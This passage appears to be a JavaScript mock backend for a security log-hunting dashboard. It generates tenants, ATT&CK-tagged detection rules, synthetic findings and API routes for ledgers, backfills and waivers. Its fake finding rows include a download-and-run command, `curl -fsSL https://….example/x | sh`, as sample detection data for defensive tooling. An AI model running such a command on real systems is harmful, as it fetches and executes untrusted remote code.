// Log hunts of the mock: 40 tenants by 40 rules with ledgers of a few days, one tenant failing, one paused, some gaps,
// findings; and what people do to them.

import { createHash } from 'node:crypto';
import { pageOf } from './answers.mjs';

const MIN = 60_000;
const EVERY = 10 * MIN;
const iso = (ms) => new Date(ms).toISOString().replace('.000Z', 'Z');
const hex = (text, n) => createHash('sha256').update(text).digest('hex').slice(0, n);
/** The same number for the same text, below `n`. */
const pick = (text, n) => parseInt(hex(text, 8), 16) % n;

const TENANTS = [
  ...['acme', 'borealis', 'cobalt', 'delta-foods', 'eastgate', 'fjord', 'glacier', 'harbour'],
  ...Array.from({ length: 32 }, (_, i) => `customer-${String(i + 9).padStart(2, '0')}`),
];
const TOPICS = [
  ['whoami-by-service', 'whoami run by a service account', 'medium', 'process_creation', ['T1033']],
  ['cron-from-tmp', 'A cron job that runs something below /tmp', 'high', 'process_creation', ['T1053.003']],
  ['ssh-burst', 'Many failed sign-ins, then one that worked', 'high', 'auth', ['T1110']],
  ['curl-pipe-shell', 'A download that goes straight into a shell', 'high', 'process_creation', ['T1105', 'T1059.004']],
  ['shadow-read', 'The shadow file read by something unusual', 'critical', 'file_access', ['T1003.008']],
  ['new-admin', 'A user became an administrator', 'medium', 'auth', ['T1098', 'T1078']],
  ['dns-long-labels', 'DNS names with long random labels', 'low', 'dns', ['T1071.004']],
  ['log-cleared', 'A log was cleared', 'critical', 'audit', ['T1070.001']],
  ['rare-country', 'A sign-in from a country that is new for the user', 'low', 'auth', ['T1078.004']],
  ['port-scan', 'One host asks many ports of another', 'informational', 'network', ['T1046']],
];
const RULES = Array.from({ length: 40 }, (_, i) => {
  const [name, title, severity, dataset, attack] = TOPICS[i % TOPICS.length];
  const round = Math.floor(i / TOPICS.length);
  return {
    name: round ? `${name}-${round + 1}` : name,
    title,
    severity,
    dataset,
    attack,
    sigma: i % 2 === 1,
    index: i,
  };
});
const DATASETS = ['process_creation', 'auth', 'file_access', 'dns', 'audit', 'network'];

export class LogWorld {
  constructor({ empty = false } = {}) {
    this.begun = Date.now();
    this.configured = true;
    this.tenants = empty ? [] : TENANTS;
    this.rules = empty ? [] : RULES;
    this.pauses = new Map();
    this.notes = [];
    this.jobs = [];
    this.waived = new Map();
    this.reopened = new Set();
    this.continued = false;
    this.outbox = [];
    this.findings = [];
    if (!empty) this.begin();
  }

  begin() {
    this.pauses.set('fjord', {
      mode: 'hold',
      since: iso(this.begun - 3 * 3_600_000),
      actor: 'anna',
      reason: 'their lake is being moved',
    });
    this.notes.push({
      at: iso(this.begun - 3 * 3_600_000),
      actor: 'anna',
      action: 'pause',
      subject: 'fjord',
      reason: 'hold: their lake is being moved',
    });
    for (let i = 0; i < 900; i++) {
      const rule = RULES[Math.floor(40 * (pick(`f${i}`, 1000) / 1000) ** 2)];
      const tenant = TENANTS[pick(`t${i}`, 40)];
      const at = this.begun - (i * 14 * 24 * 60 * MIN) / 900 - pick(`at${i}`, EVERY);
      const from = Math.floor(at / EVERY) * EVERY - MIN;
      this.findings.push({
        id: `N.${hex(`finding ${i}`, 32)}`,
        tenant,
        dataset: rule.dataset,
        rule: rule.name,
        title: rule.title,
        severity: rule.severity,
        attack: rule.attack,
        revision_first: hex(rule.name, 16),
        revision_last: hex(rule.name, 16),
        window: this.windowId(tenant, rule.name, from),
        window_from: iso(from),
        window_to: iso(from + EVERY),
        position: iso(at),
        instant: iso(at),
        found_at: iso(at + 2 * MIN),
        row: {
          Host: `srv-${pick(`h${i}`, 60)}.${tenant}.example`,
          User: ['root', 'svc_backup', 'deploy', 'www-data'][pick(`u${i}`, 4)],
          Image: ['/usr/bin/whoami', '/bin/sh', '/usr/bin/curl', '/usr/sbin/cron'][pick(`i${i}`, 4)],
          CommandLine: `/bin/sh -c "curl -fsSL https://${hex(`c${i}`, 12)}.example/x | sh"`,
          ProcessId: 1000 + pick(`p${i}`, 30_000),
          Parent: { Image: '/usr/sbin/sshd', ProcessId: 811, Hashes: { SHA256: hex(`s${i}`, 64) } },
        },
        late: i % 41 === 0,
        suppressed_by: i % 29 === 0 ? "User = 'svc_backup'" : null,
        bucket: i % 7 === 0 ? `Host=srv-${pick(`h${i}`, 60)}` : null,
        notified: i % 29 !== 0,
        state: i < 260 ? 'new' : i % 3 === 0 ? 'triaged' : 'closed',
        assignee: i >= 260 ? ['anna', 'ben', 'admin'][i % 3] : null,
        verdict: i >= 260 && i % 3 !== 0 ? ['benign', 'true_positive', 'false_positive'][i % 3] : null,
        comments:
          i >= 260 && i % 5 === 0
            ? [{ at: iso(at + 3_600_000), actor: 'anna', text: 'Asked the customer: a deployment of theirs.' }]
            : [],
      });
    }
    for (let i = 0; i < 3; i++)
      this.outbox.push({
        id: i + 1,
        key: hex(`key ${i}`, 32),
        channel: 'soc-webhook',
        findings: [this.findings[i].id],
        at: this.findings[i].found_at,
        attempts: i,
        not_before: iso(this.begun + MIN),
        error: i > 0 ? 'the receiver answered 503 Service Unavailable' : null,
        given_up: i === 2,
      });
  }

  windowId(tenant, rule, from) {
    const id = `W.${hex(`${tenant}/${rule}/${from}`, 32)}`;
    (this.windows ??= new Map()).set(id, { tenant, rule, from });
    return id;
  }

  /** Where a stream stands: mostly well; `glacier` fails, one source was replaced, some windows were given up. */
  stand(tenant, rule, now = Date.now()) {
    const last = Math.floor((now - MIN) / EVERY) * EVERY - MIN;
    const key = `${tenant}/${rule.name}`;
    if (tenant === 'harbour' && rule.index > 36) return null;
    if (tenant === 'eastgate' && rule.name === 'shadow-read' && !this.continued)
      return {
        state: 'stopped',
        checkpoint: last - 30 * EVERY,
        failure: 'the table eastgate.file_access was made anew: it has another identity than the one read so far',
        class: 'source_changed',
      };
    if (this.pauses.has(tenant)) return { state: 'paused', checkpoint: last - 18 * EVERY };
    if (tenant === 'glacier')
      return {
        state: 'failing',
        checkpoint: last - (6 + pick(key, 4)) * EVERY,
        failure: 'the engine lake does not answer: connection refused',
        class: 'transient',
      };
    if (pick(key, 190) === 1) return { state: 'gap', checkpoint: last, failure: null };
    if (pick(key, 170) === 2) return { state: 'behind', checkpoint: last - 5 * EVERY, failure: null };
    return { state: tenant === 'customer-40' && rule.index % 3 === 0 ? 'waiting' : 'ok', checkpoint: last };
  }

  entry(tenant, rule) {
    const now = Date.now();
    const s = this.stand(tenant, rule, now);
    if (!s) return null;
    const waiting = s.state === 'waiting';
    return {
      tenant,
      dataset: rule.dataset,
      part: '',
      rule: rule.name,
      epoch: 0,
      state: s.state,
      lag_millis: waiting ? null : now - s.checkpoint,
      checkpoint: waiting ? null : iso(s.checkpoint),
      last_run: waiting ? null : iso(s.checkpoint + 2 * MIN),
      gaps: s.state === 'gap' ? 1 : 0,
      failure: s.failure ?? null,
    };
  }

  entries(filter = () => true) {
    const all = [];
    for (const tenant of this.tenants)
      for (const rule of this.rules) {
        const entry = this.entry(tenant, rule);
        if (entry && filter(entry)) all.push(entry);
      }
    return all;
  }

  tally(entries) {
    const counts = { ok: 0, waiting: 0, paused: 0, behind: 0, failing: 0, gap: 0, stopped: 0 };
    for (const e of entries) counts[e.state] += 1;
    return counts;
  }

  /** The windows of a stream, oldest first. */
  ledger(tenant, rule) {
    const s = this.stand(tenant, rule);
    if (!s || s.state === 'waiting') return [];
    const now = Date.now();
    const last = Math.floor((now - MIN) / EVERY) * EVERY - MIN;
    const windows = [];
    for (let from = last - 5 * 144 * EVERY; from < last; from += EVERY) {
      const id = this.windowId(tenant, rule.name, from);
      const found = this.findings.filter((f) => f.window === id).length;
      let state = from + EVERY <= s.checkpoint ? 'committed' : s.state === 'failing' ? 'backoff' : 'planned';
      if (s.state === 'gap' && from === last - 40 * EVERY && !this.reopened.has(id)) state = 'quarantined';
      if (pick(`${id} waived`, 900) === 7) state = 'waived';
      if (this.waived.has(id)) state = 'waived';
      if (from === last - EVERY && state === 'planned') state = 'running';
      windows.push({ id, tenant, rule, from, to: from + EVERY, state, found });
    }
    return windows;
  }

  windowView(w) {
    const failure = 'transient: the engine lake does not answer: connection refused';
    const rows = w.found || pick(`${w.id} rows`, 3);
    return {
      id: w.id,
      tenant: w.tenant,
      dataset: w.rule.dataset,
      rule: w.rule.name,
      ledger: { part: '', epoch: 0, lane: 'live' },
      from: iso(w.from),
      to: iso(w.to),
      state: w.state,
      tick: iso(w.to + MIN),
      attempts: w.state === 'backoff' ? 3 : w.state === 'quarantined' ? 8 : 0,
      planned_at: iso(w.to + 2 * MIN),
      moved_at: iso(w.to + 2 * MIN),
      reason:
        w.state === 'backoff'
          ? failure
          : w.state === 'quarantined'
            ? 'too_large: the query needs more than 1 GiB of memory'
            : w.state === 'waived'
              ? (this.waived.get(w.id) ?? 'the lake was down that night')
              : null,
      actor: w.state === 'waived' ? 'admin' : w.state === 'running' ? 'lycaon-1' : null,
      until: w.state === 'backoff' || w.state === 'running' ? iso(Date.now() + MIN) : null,
      evidence:
        w.state === 'committed'
          ? {
              token: 1 + Math.floor((w.from / EVERY) % 100_000),
              revision: hex(w.rule.name, 16),
              rows,
              findings_new: w.found,
              bytes: 40_000 + pick(w.id, 9_000_000),
              took_millis: 20 + pick(w.id, 900),
              fingerprint: null,
              source_clock: iso(w.to + 2 * MIN),
              committed_at: iso(w.to + 2 * MIN),
              audit_at: iso(w.to + 3_600_000),
              audits: 0,
            }
          : null,
    };
  }

  run(w) {
    const committed = w.state === 'committed';
    return {
      from: iso(w.from),
      to: iso(w.to),
      owner: 'lycaon-1',
      token: 1 + Math.floor((w.from / EVERY) % 100_000),
      ended_at: iso(w.to + 2 * MIN),
      outcome: committed ? 'committed' : 'failed',
      reason: committed ? null : this.windowView(w).reason,
      rows: committed ? pick(`${w.id} rows`, 3) : null,
      findings_new: committed ? w.found : null,
      bytes: committed ? 40_000 + pick(w.id, 9_000_000) : null,
      took_millis: committed ? 20 + pick(w.id, 900) : null,
    };
  }

  found(q) {
    const in_ = (list, value) => !list || list.split(',').includes(value);
    const from = q.from && (q.from.length === 10 ? `${q.from}T00:00:00Z` : q.from);
    const to = q.to && (q.to.length === 10 ? `${q.to}T23:59:59.999Z` : q.to);
    const out = this.findings.filter(
      (f) =>
        in_(q.tenant, f.tenant) &&
        in_(q.dataset, f.dataset) &&
        in_(q.rule, f.rule) &&
        in_(q.severity, f.severity) &&
        in_(q.state, f.state) &&
        (!q.attack || f.attack.includes(q.attack)) &&
        (!from || Date.parse(f.instant) >= Date.parse(from)) &&
        (!to || Date.parse(f.instant) < Date.parse(to)) &&
        (!q.late || String(f.late) === q.late) &&
        (!q.suppressed || String(!!f.suppressed_by) === q.suppressed) &&
        (!q.search || JSON.stringify(f.row).toLowerCase().includes(q.search.toLowerCase())),
    );
    const rank = {
      severity: ['informational', 'low', 'medium', 'high', 'critical'],
      state: ['new', 'triaged', 'closed'],
    };
    const by = q.sort && q.sort !== 'instant' ? q.sort : null;
    const value = (f) => (rank[by] ? rank[by].indexOf(f[by]) : f[by]);
    const sign = q.desc === 'true' ? -1 : 1;
    if (by) out.sort((a, b) => (value(a) < value(b) ? -sign : value(a) > value(b) ? sign : 0));
    else if (q.sort === 'instant' && q.desc !== 'true') out.reverse();
    return out;
  }
}

const countBy = (items, of) => {
  const counts = new Map();
  for (const item of items) for (const v of [of(item)].flat()) counts.set(v, (counts.get(v) ?? 0) + 1);
  return [...counts].map(([value, count]) => ({ value, count })).sort((a, b) => b.count - a.count);
};

const yamlOf = (rule) => `rule: ${rule.name}
title: ${rule.title}
severity: ${rule.severity}
attack: [${rule.attack.join(', ')}]
datasets: [${rule.dataset}]
tenants: { include: ["*"], exclude: [] }
schedule: { every: 10m, start_time: "12:00:00", log_buffer: 60s, jitter: 30s, max_window: 6h }
kind: per_event
query: |   # {table}, {from} and {to} are filled in for each tenant
  SELECT * FROM {table}
  WHERE Image LIKE '%whoami' AND User LIKE 'svc%'
suppress: { by: [Host], for: 1h }
notify: [soc-webhook]
tests:
  - name: finds one
    given: { ${rule.dataset}: [ { Image: /usr/bin/whoami, User: svc_x, Host: h1 } ] }
    expect: [ { Host: h1 } ]
`;

/** `[method, path, act]` of the log hunts. `refuse` makes an error; `changed` tells listeners. */
export function logRoutes(logs, { refuse, missing, changed }) {
  const ruleOf = (name) => logs.rules.find((r) => r.name === name) ?? refuse(missing(`rule ${name}`));
  const tenantOf = (name) => (logs.tenants.includes(name) ? name : refuse(missing(`tenant ${name}`)));
  const streamOf = ([tenant, dataset, rule]) => {
    const found = ruleOf(rule);
    if (found.dataset !== dataset || !logs.stand(tenantOf(tenant), found))
      refuse(missing(`a stream of rule ${rule} over ${dataset} of ${tenant}`));
    return { tenant, rule: found };
  };
  const trouble = new Set(['behind', 'failing', 'gap', 'stopped']);
  const fits = (state, wanted) => !wanted || (wanted === 'trouble' ? trouble.has(state) : state === wanted);
  const entriesOf = (q) => {
    const text = (q.search ?? '').toLowerCase();
    const out = logs.entries(
      (e) =>
        (!q.tenant || e.tenant === q.tenant) &&
        (!q.rule || e.rule === q.rule) &&
        fits(e.state, q.state) &&
        (!text || `${e.tenant} ${e.rule} ${e.dataset} ${e.failure ?? ''}`.toLowerCase().includes(text)),
    );
    const by = { lag: 'lag_millis', checkpoint: 'checkpoint' }[q.sort] ?? q.sort;
    if (by) out.sort((a, b) => ((a[by] ?? '') < (b[by] ?? '') ? -1 : 1) * (q.desc === 'true' ? -1 : 1));
    return out;
  };
  const summary = (rule) => ({
    name: rule.name,
    title: rule.title,
    severity: rule.severity,
    attack: rule.attack,
    datasets: [rule.dataset],
    class: rule.name.startsWith('ssh') ? 'windowed' : 'per_event',
    question: rule.sigma ? 'sigma' : 'sql',
    schedule: 'every 10m, up to 1m before each tick',
    disabled: false,
    streams: logs.tally(logs.entries((e) => e.rule === rule.name)),
    findings_new: logs.findings.filter((f) => f.rule === rule.name && f.state === 'new').length,
  });
  const tenantSummary = (name) => {
    const entries = logs.entries((e) => e.tenant === name);
    return {
      name,
      datasets: DATASETS,
      streams: logs.tally(entries),
      lag_millis_max: Math.max(0, ...entries.map((e) => e.lag_millis ?? 0)),
      pause: logs.pauses.get(name) ?? null,
      findings_new: logs.findings.filter((f) => f.tenant === name && f.state === 'new').length,
    };
  };
  const reasoned = (body) => {
    if (!body.preview && !body.reason?.trim())
      refuse({
        status: 422,
        message: 'the reason is missing',
        problems: [{ field: 'reason', severity: 'error', message: 'is missing; say in a few words why', hint: '' }],
      });
  };
  const acted = (body, action, subject, report, act) => {
    reasoned(body);
    if (!body.preview) {
      act();
      logs.notes.unshift({ at: iso(Date.now()), actor: 'admin', action, subject, reason: body.reason });
      changed();
    }
    return { done: !body.preview, streams: 1, windows: 1, ...report };
  };
  const windowOf = (id) => {
    const known = logs.windows?.get(id) ?? refuse(missing(`window ${id}`));
    const rule = ruleOf(known.rule);
    return (
      logs.ledger(known.tenant, rule).find((w) => w.id === id) ?? {
        id,
        ...known,
        rule,
        to: known.from + EVERY,
        state: 'committed',
        found: 1,
      }
    );
  };
  const position = (text) =>
    text === undefined || text === '' ? undefined : /^-?\d+$/.test(text) ? Number(text) / 1000 : Date.parse(text);
  const inRange = (windows, q) => {
    const [from, to] = [position(q.from), position(q.to)];
    return windows.filter((w) => (from === undefined || w.to > from) && (to === undefined || w.from < to));
  };
  const queues = (filter) =>
    logs.tenants.filter(filter).map((tenant) => ({
      tenant,
      engine: 'lake',
      running: tenant === 'acme' ? 2 : 0,
      waiting: tenant === 'glacier' ? 40 : pick(tenant, 3),
      breaker: tenant === 'glacier' ? 'open' : 'closed',
      breaker_until: tenant === 'glacier' ? iso(Date.now() + 2 * MIN) : null,
      failure: tenant === 'glacier' ? 'connection refused' : null,
      bytes_today: pick(`${tenant} bytes`, 4_000_000_000),
    }));
  return [
    [
      'GET',
      'log/overview',
      () => {
        const entries = logs.entries();
        return {
          configured: logs.configured,
          running: true,
          now: iso(Date.now()),
          counted_at: iso(Date.now()),
          tenants: logs.tenants.length,
          tenants_paused: logs.pauses.size,
          rules: logs.rules.length,
          streams: logs.tally(entries),
          lag_millis_max: Math.max(0, ...entries.filter((e) => e.state !== 'paused').map((e) => e.lag_millis ?? 0)),
          gaps: entries.filter((e) => e.state === 'gap').length,
          findings: countBy(logs.findings, (f) => f.state),
          findings_new: countBy(
            logs.findings.filter((f) => f.state === 'new'),
            (f) => f.severity,
          ),
          findings_by_day: countBy(logs.findings, (f) => f.instant.slice(0, 10)),
          outbox_waiting: logs.outbox.length,
          backfills_running: logs.jobs.filter((j) => j.state === 'running').length,
          problems: logs.rules.length ? 1 : 0,
          troubles: [],
        };
      },
    ],
    [
      'GET',
      'log/grid',
      (_, q) => {
        const has = (text, part) => text.toLowerCase().includes((part ?? '').toLowerCase());
        const rules = logs.rules.filter((r) => has(r.name, q.rule) || has(r.title, q.rule));
        let rows = logs.tenants
          .filter((t) => has(t, q.tenant))
          .map((tenant) => ({
            tenant,
            paused: logs.pauses.get(tenant)?.mode ?? null,
            cells: rules.map((rule) => {
              const e = logs.entry(tenant, rule);
              return (
                e && {
                  state: e.state,
                  lag_millis: e.lag_millis,
                  streams: 1,
                  dataset: e.dataset,
                  part: '',
                  gaps: e.gaps,
                  failure: e.failure,
                }
              );
            }),
          }))
          .filter((row) => !q.state || row.cells.some((c) => c && fits(c.state, q.state)));
        const order = ['ok', 'waiting', 'paused', 'behind', 'failing', 'gap', 'stopped'];
        const worst = (row) => Math.max(...row.cells.map((c) => (c ? order.indexOf(c.state) : -1)));
        const lag = (row) => Math.max(...row.cells.map((c) => c?.lag_millis ?? 0));
        if (q.sort === 'trouble') rows = [...rows].sort((a, b) => worst(b) - worst(a));
        if (q.sort === 'lag') rows = [...rows].sort((a, b) => lag(b) - lag(a));
        return {
          rules: rules.map((r) => ({ name: r.name, title: r.title, severity: r.severity, disabled: false })),
          ...pageOf(rows, q),
        };
      },
    ],
    [
      'GET',
      'log/definitions',
      () => ({
        folder: '/srv/lycaon/log-hunts',
        revision: hex('definitions', 16),
        loaded_at: iso(logs.begun),
        stale: logs.rules.length > 0,
        tenants: logs.tenants.length,
        rules: logs.rules.length,
        engines: logs.tenants.length ? 1 : 0,
        channels: logs.tenants.length ? ['soc-webhook'] : [],
        problems: logs.rules.length
          ? [
              {
                file: 'rules/ssh-burst.yaml',
                problem: {
                  field: 'schedule.log_buffer',
                  start: null,
                  end: null,
                  line: 7,
                  column: 44,
                  severity: 'error',
                  message: '`60` is not a length of time',
                  hint: 'write a unit: `60s`',
                },
              },
              {
                file: 'tenants/acme.yaml',
                problem: {
                  field: 'overrides[0]',
                  start: null,
                  end: null,
                  line: 12,
                  column: 3,
                  severity: 'warning',
                  message: 'the exception ends in 9 days',
                  hint: '',
                },
              },
            ]
          : [],
      }),
    ],
    [
      'GET',
      'log/engines',
      () =>
        logs.tenants.length
          ? [
              {
                name: 'lake',
                kind: 'datafusion',
                place: '/srv/logs',
                concurrency: 8,
                timeout_millis: 300_000,
                tenants: 40,
                queues: queues(() => true),
              },
            ]
          : [],
    ],
    ['GET', 'log/outbox', (_, q) => pageOf(logs.outbox, q)],
    ['GET', 'log/notes', (_, q) => pageOf(logs.notes, q)],
    ['GET', 'log/backfills', (_, q) => pageOf(logs.jobs, q)],
    [
      'POST',
      'log/backfills',
      (_, __, body) => {
        const rule = ruleOf(body.rule);
        const problems = [];
        for (const field of ['from', 'to'])
          if (Number.isNaN(Date.parse(body[field])))
            problems.push({
              field,
              severity: 'error',
              message: `\`${body[field]}\` is not a moment; write \`2026-11-22\``,
              hint: '',
            });
        const glob = (p) => new RegExp(`^${p.replaceAll('*', '.*')}$`);
        const tenants = logs.tenants.filter((t) => !body.tenants.length || body.tenants.some((p) => glob(p).test(t)));
        if (!tenants.length)
          problems.push({ field: 'tenants', severity: 'error', message: 'the rule runs at none of them', hint: '' });
        if (problems.length) refuse({ status: 422, message: 'this cannot be read again', problems });
        reasoned(body);
        const hours = (Date.parse(body.to) - Date.parse(body.from)) / 3_600_000 + 24;
        const windows = Math.ceil(hours / 6) * tenants.length;
        const report = {
          done: !body.preview,
          job: null,
          tenants: tenants.length,
          streams: tenants.length,
          windows,
          bytes: windows * 40_000_000,
          estimated: Math.min(20, tenants.length),
          problems: [],
        };
        if (body.preview) return report;
        const name = `${iso(Date.now()).slice(0, 10).replaceAll('-', '')}-${hex(String(Math.random()), 6)}`;
        logs.jobs.unshift({
          name,
          rule: rule.name,
          tenants,
          from: iso(Date.parse(body.from)),
          to: iso(Date.parse(body.to)),
          tell: body.tell ?? 'digest',
          bytes_max: null,
          at: iso(Date.now()),
          actor: 'admin',
          reason: body.reason,
          state: 'running',
          streams: tenants.length,
          windows_settled: 3,
          windows_open: windows - 3,
        });
        logs.notes.unshift({
          at: iso(Date.now()),
          actor: 'admin',
          action: 'backfill',
          subject: name,
          reason: body.reason,
        });
        changed();
        return { ...report, job: name };
      },
    ],
    [
      'POST',
      'log/backfills/:job/cancel',
      ([name], _, body) => {
        const job = logs.jobs.find((j) => j.name === name) ?? refuse(missing(`backfill ${name}`));
        return acted(
          body,
          'backfill_cancel',
          name,
          {
            sentence: `${job.windows_open} windows that are open will not be read; ${job.windows_settled} settled windows stay as they are.`,
          },
          () => (job.state = 'cancelled'),
        );
      },
    ],
    ['GET', 'log/streams', (_, q) => pageOf(entriesOf(q), q)],
    [
      'GET',
      'log/streams/:t/:d/:r',
      (place) => {
        const { tenant, rule } = streamOf(place);
        const s = logs.stand(tenant, rule);
        if (s.state === 'waiting') refuse(missing(`a stream of rule ${rule.name} over ${rule.dataset} of ${tenant}`));
        const windows = logs.ledger(tenant, rule);
        return {
          tenant,
          dataset: rule.dataset,
          rule: rule.name,
          ledger: { part: '', epoch: 0, lane: 'live' },
          ledgers: [
            { part: '', epoch: 0, lane: 'live' },
            { part: '', epoch: 0, lane: 'repair.1' },
          ],
          state: s.state,
          failure: s.failure ?? null,
          failure_class: s.class ?? null,
          domain: 'event_time',
          t0: iso(windows[0].from),
          checkpoint: iso(s.checkpoint),
          planned_to: iso(windows.at(-1).to),
          lag_millis: Date.now() - s.checkpoint,
          interval_millis: EVERY,
          schedule: 'every 10m, up to 1m before each tick',
          token: 1234,
          source_identity: hex(`${tenant} source`, 12),
          opened_at: iso(windows[0].from + 12 * MIN),
          last_tick: iso(windows.at(-1).to + MIN),
          next_tick: iso(windows.at(-1).to + MIN + EVERY),
          last_run: iso(s.checkpoint + 2 * MIN),
          heartbeat: iso(Date.now()),
          paused: logs.pauses.get(tenant)?.mode ?? null,
          windows: countBy(windows, (w) => w.state),
        };
      },
    ],
    [
      'GET',
      'log/streams/:t/:d/:r/timeline',
      (place, q) => {
        const { tenant, rule } = streamOf(place);
        const all = logs.ledger(tenant, rule);
        const windows = inRange(all, q);
        const us = (ms) => ms * 1000;
        const segments = [];
        const most = Number(q.segments ?? 400);
        for (const w of windows) {
          const last = segments.at(-1);
          const found = {
            from: us(w.from),
            to: us(w.to),
            state: w.state,
            windows: 1,
            window: w.id,
            rows: w.found,
            findings: w.found,
            revision: w.state === 'committed' ? hex(rule.name, 16) : null,
          };
          if (windows.length > most && last?.state === w.state)
            Object.assign(last, {
              to: us(w.to),
              windows: last.windows + 1,
              window: null,
              rows: last.rows + w.found,
              findings: last.findings + w.found,
            });
          else segments.push(found);
        }
        const s = logs.stand(tenant, rule);
        return {
          domain: 'event_time',
          from: q.from ? Number(q.from) : us(all[0].from),
          to: q.to ? Number(q.to) : us(all.at(-1).to),
          t0: us(all[0].from),
          checkpoint: us(s.checkpoint),
          planned_to: us(all.at(-1).to),
          now: us(Date.now()),
          segments,
          windows: windows.length,
          left_out: 0,
        };
      },
    ],
    [
      'GET',
      'log/streams/:t/:d/:r/windows',
      (place, q) => {
        const { tenant, rule } = streamOf(place);
        const open = ['planned', 'leased', 'running', 'backoff'];
        const found = inRange(logs.ledger(tenant, rule), q).filter(
          (w) => !q.state || (q.state === 'open' ? open.includes(w.state) : w.state === q.state),
        );
        if (q.desc === 'true') found.reverse();
        const page = pageOf(found, q);
        return { ...page, items: page.items.map((w) => logs.windowView(w)) };
      },
    ],
    [
      'GET',
      'log/streams/:t/:d/:r/runs',
      (place, q) => {
        const { tenant, rule } = streamOf(place);
        const tried = logs
          .ledger(tenant, rule)
          .filter((w) => ['committed', 'backoff', 'quarantined'].includes(w.state));
        const page = pageOf(tried.reverse(), q);
        return { ...page, items: page.items.map((w) => logs.run(w)) };
      },
    ],
    [
      'POST',
      'log/streams/:t/:d/:r/waive',
      (place, _, body) => {
        const { tenant, rule } = streamOf(place);
        const open = inRange(logs.ledger(tenant, rule), body).filter((w) =>
          ['planned', 'backoff', 'quarantined'].includes(w.state),
        );
        return acted(
          body,
          'waive',
          `${tenant}/${rule.dataset}/${rule.name}`,
          {
            windows: open.length,
            sentence: `What nobody has read of [${body.from}, ${body.to}) (${open.length} open or failed windows, and what is not cut yet) will never be read; the ledger says so.`,
          },
          () => open.forEach((w) => logs.waived.set(w.id, body.reason)),
        );
      },
    ],
    [
      'POST',
      'log/streams/:t/:d/:r/continue',
      (place, _, body) => {
        const { tenant, rule } = streamOf(place);
        const s = logs.stand(tenant, rule);
        if (s.state !== 'stopped') refuse({ status: 409, message: 'the stream is active, not stopped' });
        return acted(
          body,
          'continue',
          `${tenant}/${rule.dataset}/${rule.name}`,
          {
            windows: 0,
            sentence: `The stream goes on from its checkpoint ${iso(s.checkpoint)} with the source as it is now. It was stopped because: ${s.failure}`,
          },
          () => (logs.continued = true),
        );
      },
    ],
    [
      'GET',
      'log/windows/:id',
      ([id]) => {
        const w = windowOf(id);
        const view = logs.windowView(w);
        const sentences = [
          `The tick of ${view.tick} cut [${view.from}, ${view.to}) at ${view.planned_at}; it ends at the tick less the log buffer of 1m.`,
        ];
        if (view.evidence)
          sentences.push(
            `It was committed by lycaon-1 at ${view.evidence.committed_at} under token ${view.evidence.token}, by revision ${view.evidence.revision} of the rule.`,
            `The engine read ${view.evidence.bytes} bytes in ${view.evidence.took_millis} ms and gave ${view.evidence.rows} matching rows.`,
          );
        else if (w.state === 'quarantined')
          sentences.push(
            `It was given up after 8 attempts (${view.reason}): a gap, until somebody reopens or waives it.`,
          );
        else if (w.state === 'waived') sentences.push(`admin left it out on purpose: ${view.reason}`);
        else
          sentences.push(
            view.reason
              ? `It failed (${view.reason}) and is tried again not before ${view.until}.`
              : 'Nobody has it: it waits for its turn.',
          );
        const actions =
          { planned: ['waive'], backoff: ['waive'], quarantined: ['reopen', 'waive'], waived: ['reopen'] }[w.state] ??
          [];
        return {
          window: view,
          sentences,
          runs: w.state === 'planned' ? [] : [logs.run(w)],
          findings: w.found,
          actions,
        };
      },
    ],
    [
      'POST',
      'log/windows/:id/:verb',
      ([id, verb], _, body) => {
        const w = windowOf(id);
        const sentence =
          verb === 'waive'
            ? `Rows of [${iso(w.from)}, ${iso(w.to)}) of ${w.tenant} will never be read by rule ${w.rule.name}; the ledger says so.`
            : `[${iso(w.from)}, ${iso(w.to)}) of ${w.tenant} is read after all.`;
        return acted(body, verb, `${w.tenant}/${w.rule.dataset}/${w.rule.name}`, { sentence }, () => {
          if (verb === 'waive') logs.waived.set(id, body.reason);
          else {
            logs.waived.delete(id);
            logs.reopened.add(id);
          }
        });
      },
    ],
    [
      'GET',
      'log/rules',
      (_, q) => {
        const text = (q.search ?? '').toLowerCase();
        const found = logs.rules.filter(
          (r) =>
            (!q.severity || r.severity === q.severity) &&
            `${r.name} ${r.title} ${r.attack}`.toLowerCase().includes(text),
        );
        const page = pageOf(
          [...found].sort((a, b) => (a.name < b.name ? -1 : 1)),
          q,
        );
        return { ...page, items: page.items.map(summary) };
      },
    ],
    [
      'GET',
      'log/rules/:rule',
      ([name]) => {
        const rule = ruleOf(name);
        return {
          summary: summary(rule),
          description:
            'Service accounts do not ask who they are: people who have taken one over do.\nAsk the owner of the account; then look at what else its session did.',
          file: `rules/${name}.yaml`,
          source_text: yamlOf(rule),
          span_millis: null,
          settings: [
            ['every', '10m'],
            ['start_time', '2026-01-01T12:00:00Z'],
            ['log_buffer', '1m'],
            ['start_delay', '0s'],
            ['jitter', '30s'],
            ['max_window', '6h'],
            ['min_window', '1m'],
            ['first_from', 'one interval'],
            ['retry', 'backoff'],
            ['attempts_max', '8'],
          ].map(([n, value]) => ({ name: n, value })),
          tenants_include: ['*'],
          tenants_exclude: ['internal-*'],
          notify: ['soc-webhook'],
          revision: hex(name, 16),
          tests: ['finds one', 'leaves people alone'],
          can_test: true,
          problems:
            name === 'ssh-burst'
              ? [
                  {
                    file: 'rules/ssh-burst.yaml',
                    problem: {
                      field: 'schedule.log_buffer',
                      start: null,
                      end: null,
                      line: 7,
                      column: 44,
                      severity: 'error',
                      message: '`60` is not a length of time',
                      hint: 'write a unit: `60s`',
                    },
                  },
                ]
              : [],
          overrides: [
            {
              tenant: 'acme',
              rule: name,
              disabled: false,
              severity: null,
              exceptions: ["User = 'svc_scan'"],
              owner: 'soc@acme',
              expires: '2027-01-31T00:00:00Z',
              reason: 'their scanner',
            },
          ],
          findings: countBy(
            logs.findings.filter((f) => f.rule === name),
            (f) => f.state,
          ),
        };
      },
    ],
    [
      'GET',
      'log/rules/:rule/revisions',
      ([name]) => ({
        windows_read: 5000,
        windows: 28_760,
        items: [
          {
            revision: hex(ruleOf(name).name, 16),
            in_force: true,
            windows: 4200,
            tenants: 40,
            rows: 311,
            from: iso(logs.begun - 4 * 86_400_000),
            to: iso(logs.begun),
            first_commit: iso(logs.begun - 4 * 86_400_000),
            last_commit: iso(logs.begun),
          },
          {
            revision: hex(`${name} old`, 16),
            in_force: false,
            windows: 800,
            tenants: 40,
            rows: 90,
            from: iso(logs.begun - 5 * 86_400_000),
            to: iso(logs.begun - 4 * 86_400_000),
            first_commit: iso(logs.begun - 5 * 86_400_000),
            last_commit: iso(logs.begun - 4 * 86_400_000),
          },
        ],
      }),
    ],
